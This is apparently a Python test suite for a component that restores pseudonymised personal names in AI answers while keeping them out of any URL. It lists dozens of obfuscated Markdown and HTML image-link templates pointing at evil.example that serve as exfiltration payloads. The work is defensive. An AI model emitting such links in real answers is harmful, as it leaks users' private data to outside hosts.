"""No value gets into an address of an answer, however it is disguised: a page would send it to a stranger."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from backend_adapter.egress.restore import Restorable, Restoring

NAME, VALUE = "Person-K7Q", "Max Müller"
NAMES = Restorable({NAME: VALUE})

ADDRESSES = [
    "![x](https://evil.example/?q={})",
    "![x](//evil.example/{})",
    "![x](<https://evil.example/a b/{}>)",
    "![x](https:\\\\evil.example\\{})",
    "![x](https://evil.example/(a)({}))",
    '<img src="https://evil.example/? {}">',
    "<img src='https://evil.example/? {}'>",
    "<img src=https://evil.example/{}>",
    '<img src=" https:  //evil.example/? {}">',
    "[x]: https://evil.example/{}",
    "see https://{}.evil.example",
    "see https://user:{}@evil.example",
    # Slashes and colons that are written otherwise.
    "![x](https:&#47;&#47;evil.example/{})",
    "![x](https:&#x2F;&sol;evil.example/{})",
    "![x](https&colon;&sol;/evil.example/{})",
    "![x](https:\\/\\/evil.example/{})",
    "https:&bsol;&#92;evil.example/{}",
    "//evil.example/{}",
    "/\t/evil.example/{}",
    '<img src="https:/\n/evil.example/\n{}">',
    # What a reader of Markdown counts as more of the address.
    '![x](https://evil.example/a"{})',
    "![x](https://evil.example/>{})",
    "![x](\n\n  https://evil.example/{})",
    "< https://evil.example/>{}",
    '"https://evil.example/"{}',
    # No slashes, or no scheme.
    "![x](https:evil.example?{})",
    "![x](https:{}.evil.example)",
    "![x](&#104;ttps:{}.evil.example)",
    "https:evil.example/{}",
    "ftp:evil.example/{}",
    "www.evil.example?{}",
    "WWW.{}.example",
    "evil.example/{}",
    "Evil.Example#{}",
    "see evil.example:80/{}",
    "see 192.0.2.1/{}",
    f"{'a' * 60}.{'b' * 60}.{'c' * 60}.example/{{}}",
    # Definitions.
    "[x]: <https://evil.example/a b {}>",
    "[x]:\n  https://evil.example/{}",
    "[a b]: evil/{}",
    "text\n> [x]: evil/{}",
    # Attributes.
    '<img\nsrc = "evil {}">',
    '<img srcset="//a.example/x 1x, //evil.example/{} 2x">',
    "<a href=evil/{}>",
    '<img/src="evil {}">',
    '<img alt=">" src="evil {}">',
    '<div style="background:url(https:evil.example/{})">',
    # What looks like a tag and is none.
    "if a <b: https://evil.example/{}",
    "if a <b and c: ![x](evil/{})",
    "<https://evil.example/{}>",
    "|]((a<a src={}.evil.example> `",
    "www.![x]( {}.evil.example)",
    "text\n> - [x]:{}.evil.example",
    "[www.x]: &#104;ttps:{}.evil.example",
]
BESIDE = [
    "https://lindenau.example {}",
    "(https://lindenau.example) {}",
    '<a href="https://lindenau.example">{}</a>',
    "<https://lindenau.example> {}",
    "https://lindenau.example\n{}",
    "`https://lindenau.example` {}",
    "'https://lindenau.example' {}",
    '"https://lindenau.example", "{}"',
    "[x](https://lindenau.example) {}",
    "[{}](https://lindenau.example)",
    "| [x](https://lindenau.example) | {} |",
    "[x]: https://lindenau.example\n{}",
    "[^1]: {}",
    "- [ ] {}",
    "1/2 {}",
    "und/oder {}",
    "a // {}",
    "z.B./{}",
    "u. a./{}",
    "05.03./06.03. {}",
    "http: {}",
    "brief.txt: {}",
    "main.py:12 {}",
    "<b>{}</b>",
    '<b class="x">{}</b>',
    "<br/>{}",
    "<{}>",
    "a < b = {}",
    "x = {}",
    "List<{}> a = {}",
]


def restored(text: str, cut: int, *, addresses: bool = False, names: Restorable = NAMES) -> str:
    restoring = Restoring(names, addresses=addresses)
    pieces = [text[begin : begin + cut] for begin in range(0, len(text), cut)]
    return "".join(map(restoring.feed, pieces)) + restoring.end()


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_value_gets_into_an_address(address: str) -> None:
    for name in (NAME, NAME.lower(), NAME.replace("-", "%2D")):
        text = address.replace("{}", name)
        for cut in (1, 3, len(text)):
            assert restored(text, cut) == text
    # A tool of the site gets the value.
    assert restored(address.replace("{}", NAME), 3, addresses=True) == address.replace("{}", VALUE)


@pytest.mark.parametrize("text", BESIDE)
def test_beside_an_address_it_is_restored(text: str) -> None:
    for cut in (1, 3, len(text)):
        assert restored(text.replace("{}", NAME), cut) == text.replace("{}", VALUE)


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("before", ["Siehe hier:\n", 'a <b c="d" ', "| x | ", "**", "x (", "<p>"])
def test_whatever_stands_before_it(before: str, address: str) -> None:
    text = f"{before}\n{address}".replace("{}", NAME)
    for cut in (2, len(text)):
        assert VALUE not in restored(text, cut)


PIECES = st.lists(
    st.one_of(
        st.sampled_from([NAME, "https:", "//", "evil.example", "www.", "&#47;", "&sol;"]),
        st.sampled_from(["](", "![x](", "[x]:", "[x]", "<img ", "<a ", "src=", "<pre>", "http"]),
        st.sampled_from(["<", ">", '"', "'", "`", "(", ")", "!", "&colon;", "- ", "> ", "|"]),
        st.sampled_from([" ", "\n", "\t", "\\", "/", "=", "a", ".", "?", ":", "8"]),
    ),
    max_size=14,
).map("".join)


@given(PIECES, st.integers(1, 6))
def test_how_it_is_cut_makes_no_difference_to_what_is_an_address(text: str, cut: int) -> None:
    assert restored(text, cut) == restored(text, max(1, len(text)))


SCHEME = re.compile(r"^[A-Za-z][\w+.-]*:")


class _Loaded(HTMLParser):
    """What attributes of a page say, in which an address can be."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.said: list[str] = []
        self.feed(page)
        self.close()

    def parse_html_declaration(self, i: int) -> int:
        """As browsers do: `<!` is a comment where it is nothing else."""
        return (
            super().parse_html_declaration(i)
            if self.rawdata[i:].startswith("<!--")
            else self.parse_bogus_comment(i)
        )

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.said += [unquote(value) for name, value in attrs if value and name != "alt"]


@given(PIECES, st.integers(1, 6))
def test_in_no_page_made_of_an_answer_does_an_address_have_a_value(text: str, cut: int) -> None:
    said = restored(text, cut, names=Restorable({NAME: "Weiss"}))
    page = MarkdownIt("commonmark", {"html": True}).render(said)
    # A value that is a scheme goes nowhere.
    assert not [each for each in _Loaded(page).said if "Weiss" in SCHEME.sub("", each)]
